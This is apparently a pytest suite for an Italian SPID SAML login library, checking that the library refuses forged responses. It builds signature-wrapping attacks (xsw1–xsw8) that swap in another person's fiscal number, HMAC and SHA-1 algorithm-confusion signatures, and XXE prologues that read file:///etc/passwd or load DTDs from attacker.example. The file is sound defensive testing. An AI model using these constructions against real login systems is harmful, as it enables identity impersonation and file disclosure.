"""Responses made by someone who has a good one, or the provider's public files, but not its key."""

from dataclasses import replace
from datetime import timedelta

import pytest
from cryptography.hazmat.primitives.serialization import Encoding
from lxml import etree
from signxml import VerifyResult

from registro_spid_auth.issuing.answers import sign_assertion, sign_response
from registro_spid_auth.issuing.issuer import issuer_metadata
from registro_spid_auth.saml import names
from registro_spid_auth.saml.errors import Refused
from registro_spid_auth.saml.signing import _the_same, sign
from registro_spid_auth.saml.xml import DS, SAMLP, serialize

VICTIM = "TINIT-VRDNNA80A41H501X"
EVIL = "TINIT-RSSMRA80A01H501U"
SIGNATURE = f"{{{names.SIGNATURE}}}Signature"
VALUE = (
    "saml:Assertion/saml:AttributeStatement/saml:Attribute[@Name='fiscalNumber']"
    "/saml:AttributeValue"
)


def copy(element):
    return etree.fromstring(etree.tostring(element, with_tail=False))


def without_signature(element):
    copied = copy(element)
    for signature in copied.findall(SIGNATURE):
        copied.remove(signature)
    return copied


def forged(element):
    """The same element about another person, without signature."""
    text = etree.tostring(without_signature(element), encoding="unicode")
    element = etree.fromstring(text.replace(VICTIM, EVIL))
    element.set("ID", "_evil")
    return element


@pytest.fixture(params=["both", "assertion"])
def good(login, request):
    """A good response, doubly signed (x0) or its assertion alone (x0b)."""
    root = login.response()
    if request.param == "both":
        return etree.fromstring(sign_response(root, login.issuer))
    return etree.fromstring(serialize(sign_assertion(root, login.issuer)))


def test_x0_the_good_one_is_accepted(login, good):
    assert login.check(serialize(good)).attributes["fiscalNumber"] == VICTIM


@pytest.fixture
def wrapped(login):
    """Evil response, original response, and the original's signature taken out of both."""
    original = etree.fromstring(sign_response(login.response(), login.issuer))
    signature = copy(original.find(SIGNATURE))
    return forged(original), without_signature(original), signature


@pytest.mark.parametrize("keep_id", [False, True], ids=["xsw1", "xsw1k"])
def test_xsw1_original_response_inside_the_signature(wrapped, login, keep_id):
    evil, original, signature = wrapped
    if keep_id:
        evil.set("ID", original.get("ID"))
    signature.append(original)
    evil.insert(1, signature)

    assert login.refusal(serialize(evil)) == "duplicate-id"


def test_xsw2_original_response_before_the_signature(wrapped, login):
    evil, original, signature = wrapped
    evil.insert(1, original)
    evil.insert(2, signature)

    assert login.refusal(serialize(evil)) == "duplicate-id"


def test_xsw1_with_every_id_new_has_two_assertions(wrapped, login, find):
    evil, original, signature = wrapped
    find(evil, "saml:Assertion").set("ID", "_evil_assertion")
    signature.append(original)
    evil.insert(1, signature)

    assert login.refusal(serialize(evil)) == "assertion-count"


def xsw3(root, assertion, evil, signature):
    """Evil assertion before the good one."""
    assertion.addprevious(evil)


def xsw3b(root, assertion, evil, signature):
    """Evil assertion after the good one."""
    assertion.addnext(evil)


def xsw4(root, assertion, evil, signature):
    """Evil assertion around the good one."""
    root.replace(assertion, evil)
    evil.append(assertion)


def xsw5(root, assertion, evil, signature):
    """Evil assertion with the good one's signature, which stands at the end."""
    root.replace(assertion, evil)
    evil.insert(1, signature)
    root.append(without_signature(assertion))


def xsw6(root, assertion, evil, signature):
    """Evil assertion with the good one's signature, and the good one in that."""
    root.replace(assertion, evil)
    evil.insert(1, signature)
    signature.append(without_signature(assertion))


def xsw7(root, assertion, evil, signature):
    """Evil assertion in extensions, whose content no schema knows."""
    root.insert(1, SAMLP.Extensions(evil))


def xsw8(root, assertion, evil, signature):
    """Evil assertion with the good one's signature, and the good one as its object."""
    root.replace(assertion, evil)
    evil.insert(1, signature)
    signature.append(DS.Object(without_signature(assertion)))


@pytest.mark.parametrize("attack", [xsw3, xsw3b, xsw4, xsw5, xsw6, xsw7, xsw8])
def test_wrapped_assertions_are_counted(login, good, find, attack):
    """RS-8: one assertion in the whole document."""
    assertion = find(good, "saml:Assertion")
    attack(good, assertion, forged(assertion), copy(assertion.find(SIGNATURE)))

    assert login.refusal(serialize(good)) == "assertion-count"


def test_a_comment_cuts_no_value_short(login, good, find):
    """The value is read from the bytes signed, in which there are no comments."""
    value = find(good, VALUE)
    value.text = VICTIM[:14]
    value.insert(0, etree.Comment("x"))
    value[0].tail = VICTIM[14:]
    data = serialize(good)

    assert VICTIM.encode() not in data
    assert login.check(data).attributes["fiscalNumber"] == VICTIM


@pytest.mark.parametrize("where", [".//saml:Subject", ".//saml:AttributeValue", "samlp:Status"])
@pytest.mark.parametrize("attribute", ["ID", "Id", "id"])
def test_dupid(login, good, where, attribute):
    good.find(where, names.PREFIXES).set(attribute, good.get("ID"))

    assert login.refusal(serialize(good)) == "duplicate-id"


@pytest.mark.parametrize("attribute", ["ID", "Id", "id"])
def test_an_empty_id_names_nothing(login, good, find, attribute):
    find(good, "samlp:Status").set(attribute, "")

    assert login.refusal(serialize(good)) == "id"


def test_tamper(login, good, find):
    find(good, VALUE).text = EVIL

    assert login.refusal(serialize(good)) == "signature"


def test_tampering_outside_the_assertion_breaks_the_signature_of_the_response(login, find):
    good = etree.fromstring(sign_response(login.response(), login.issuer))
    good.set("Consent", "urn:oasis:names:tc:SAML:2.0:consent:obtained")

    assert login.refusal(serialize(good)) == "signature"


def test_resp_only_the_signature_of_the_response_does_not_do(login):
    """RS-9: the assertion's own is always verified."""
    data = sign(login.response(), login.issuer.keys, 1)

    assert login.refusal(data) == "signature-missing"


def test_nothing_signed(login):
    assert login.refusal(serialize(login.response())) == "signature-missing"


def test_self_key_a_certificate_that_comes_along_proves_nothing(login, keys):
    """RS-9: KeyInfo is never trusted."""
    attacker = replace(login.issuer, keys=keys("attacker"))

    assert login.refusal(sign_response(login.response(), attacker)) == "signature"


def test_another_providers_valid_signature(login, keys):
    """Provider B, in the same federation, answers the request that went to A."""
    other = replace(login.issuer, entity_id="https://b.example/idp", keys=keys("B"))
    as_itself = replace(login, issuer=other).response()
    as_a = login.response()

    assert login.refusal(sign_response(as_itself, other)) == "issuer"
    assert login.refusal(sign_response(as_a, other)) == "signature"


def test_the_issuer_of_the_assertion_counts_too(login, find):
    root = login.response()
    find(root, "saml:Assertion/saml:Issuer").text = "https://b.example/idp"

    assert login.refusal(root) == "assertion-issuer"


@pytest.fixture
def forge(login, find, forger):
    """Put an assertion signed by hand into a response: `forge(method=...)`."""

    def forge(**choices):
        root = login.response()
        assertion = find(root, "saml:Assertion")
        root.replace(assertion, forger(**choices).sign(assertion))
        return serialize(root)

    return forge


def test_what_is_signed_by_hand_is_as_good(login, forge):
    """The forgeries below fail for what is wrong with them, not for how they were made."""
    assert login.check(forge()).attributes["fiscalNumber"] == VICTIM


@pytest.mark.parametrize(
    "choices",
    [
        {"method": "http://www.w3.org/2000/09/xmldsig#rsa-sha1"},
        {"digest": "http://www.w3.org/2000/09/xmldsig#sha1"},
    ],
    ids=["signature", "digest"],
)
def test_sha1(login, forge, choices):
    assert login.refusal(forge(**choices)) == "signature-algorithm"


def test_hmac_with_the_public_certificate_as_key(login, forge):
    certificate = login.issuer.keys.certificate
    method = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
    for encoding in (Encoding.PEM, Encoding.DER):
        data = forge(method=method, key=certificate.public_bytes(encoding))
        assert login.refusal(data) == "signature-algorithm"


@pytest.mark.parametrize("uri", ["", "#", "#_other", "https://attacker.example/signed.xml"])
def test_a_signature_speaks_of_its_assertion_by_name(login, forge, uri):
    assert login.refusal(forge(uri=uri)) == "signature-reference"


def test_an_assertion_without_a_name_is_not_spoken_of(login, find, forger):
    """Not even by a signature that speaks of something called None."""
    root = login.response()
    assertion = find(root, "saml:Assertion")
    del assertion.attrib["ID"]
    find(assertion, "saml:Subject").set("ID", "None")
    root.replace(assertion, forger(uri="#None").sign(assertion))

    assert login.refusal(serialize(root)) == "signature-reference"


def test_what_was_signed_must_be_what_is_asked_about(login, find):
    """The last belt: should the library ever find another element by the name."""
    root = login.response()
    assertion = find(root, "saml:Assertion")
    other_tag, other_id = find(root, "samlp:Status"), forged(assertion)

    for signed in (None, other_tag, other_id):
        result = VerifyResult(b"", signed, assertion, b"")
        with pytest.raises(Refused, match="signature-reference"):
            _the_same(result, assertion)
    assert _the_same(VerifyResult(b"", copy(assertion), assertion, b""), assertion) is not assertion


def test_a_signature_speaks_of_one_thing(login, forge):
    assert login.refusal(forge(references=2)) == "signature-reference"


@pytest.mark.parametrize(
    "transforms",
    [
        (names.ENVELOPED,),
        (names.EXCLUSIVE_C14N,),
        (names.ENVELOPED, names.EXCLUSIVE_C14N, "http://www.w3.org/TR/1999/REC-xslt-19991116"),
        (names.ENVELOPED, "http://www.w3.org/TR/1999/REC-xpath-19991116"),
        (names.ENVELOPED, "http://www.w3.org/2000/09/xmldsig#base64"),
    ],
)
def test_a_signature_transforms_nothing_but_its_own_place(login, forge, transforms):
    assert login.refusal(forge(transforms=transforms)) == "signature-transform"


def test_a_signature_is_over_exclusive_canonical_xml(login, forge):
    data = forge(canonical="http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments")

    assert login.refusal(data) == "signature-algorithm"


def test_two_signatures_of_one_assertion(login, good, find):
    signature = find(good, f"saml:Assertion/{SIGNATURE}")
    signature.addnext(copy(signature))

    assert login.refusal(serialize(good)) == "signature-count"


def test_a_signature_within_a_signature(login, find):
    root = sign_assertion(login.response(), login.issuer)
    signature = find(root, f"saml:Assertion/{SIGNATURE}")
    signature.append(DS.Object(copy(signature)))

    assert login.refusal(serialize(root)) == "signature-count"


@pytest.mark.parametrize(
    "text",
    [
        "<SignatureValue/>",
        "<SignatureValue>AAAA</SignatureValue>",
        "<DigestValue/>",
        "<DigestValue>AAAA</DigestValue>",
    ],
)
def test_empty_and_false_values_of_a_signature(login, find, text):
    root = sign_assertion(login.response(), login.issuer)
    wanted = etree.fromstring(text)
    next(root.iter(f"{{{names.SIGNATURE}}}{wanted.tag}")).text = wanted.text

    assert login.refusal(serialize(root)) == "signature"


@pytest.mark.parametrize(
    "key_info",
    [
        "<ds:X509Data><ds:X509Certificate>AAAA</ds:X509Certificate></ds:X509Data>",
        "<ds:X509Data><ds:X509Certificate/></ds:X509Data>",
        "<ds:KeyName>A</ds:KeyName>",
    ],
)
def test_what_key_info_says_is_of_no_account(login, forge, key_info):
    """Neither needed nor believed."""
    data = forge(key_info=f'<ds:KeyInfo xmlns:ds="{names.SIGNATURE}">{key_info}</ds:KeyInfo>')

    assert login.check(data).attributes["fiscalNumber"] == VICTIM


# The provider's own signed metadata is public: a true signature of its, of something else.


@pytest.fixture
def metadata(login):
    root = etree.fromstring(issuer_metadata(login.issuer))
    root.set("ID", "_metadata")
    return etree.fromstring(sign(root, login.issuer.keys, 0))


def test_agid112_metadata_as_first_child_of_a_response_unsigned(login, metadata):
    root = login.response()
    root.insert(0, metadata)

    assert login.refusal(serialize(root)) == "content"


def test_agid113_metadata_as_first_child_and_a_broken_signature(login, metadata, find):
    root = sign_assertion(login.response(), login.issuer)
    find(root, VALUE).text = EVIL
    root.insert(0, metadata)

    assert login.refusal(serialize(root)) == "content"


def test_agid112ext_metadata_in_extensions(login, metadata):
    root = login.response()
    root.insert(1, SAMLP.Extensions(metadata))

    assert login.refusal(serialize(root)) == "content"


@pytest.mark.parametrize("where", [".", "saml:Assertion"])
def test_agid112sig_the_signature_of_the_metadata_as_the_own_one(login, metadata, find, where):
    root = login.response()
    signature = metadata.find(SIGNATURE)
    metadata.remove(signature)
    signature.append(DS.Object(metadata))
    find(root, where).insert(1, signature)

    assert login.refusal(serialize(root)) == "signature-reference"


@pytest.mark.parametrize(
    "prologue",
    [
        "<!DOCTYPE Response>",
        '<!DOCTYPE Response [<!ENTITY e "x">]>',
        '<!DOCTYPE Response [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE Response [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE Response [<!ENTITY % e SYSTEM "https://attacker.example/e.dtd"> %e;]>',
        '<!DOCTYPE Response SYSTEM "https://attacker.example/e.dtd">',
        '<!DOCTYPE Response PUBLIC "-//X//Y" "https://attacker.example/e.dtd">',
    ],
)
def test_doctype_entity_external_dtd(login, good, prologue):
    data = prologue.encode() + etree.tostring(good)

    assert login.refusal(data) == "doctype"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-7", "utf-32"])
def test_a_document_type_in_another_encoding(login, good, encoding):
    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE Response>'
    data = (text + etree.tostring(good, encoding="unicode")).encode(encoding)

    assert login.refusal(data) in {"encoding", "xml", "doctype"}


def test_an_entity_that_nobody_declared(login, good):
    data = etree.tostring(good).replace(VICTIM.encode(), b"&victim;")

    assert login.refusal(data) == "xml"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "xml"),
        (b"<", "xml"),
        (b"<a/><b/>", "xml"),
        (b"<a>\x00</a>", "xml"),
        (b"<a>\xff</a>", "encoding"),
        (b"<a>" * 1000, "xml"),
        (b"<a>" + b"x" * 200_000 + b"</a>", "too-large"),
    ],
)
def test_what_is_no_message(login, data, code):
    assert login.refusal(data) == code


def test_an_expired_certificate_is_not_believed(login):
    """OPS-2: made with the provider's own key, but its certificate has ended."""
    end = login.issuer.keys.certificate.not_valid_after_utc
    login.asked = replace(login.asked, issued_at=end)
    data = sign_response(replace(login, now=end).response(), login.issuer)

    assert login.check(data, end)
    assert login.refusal(data, end + timedelta(microseconds=1)) == "certificate-expired"
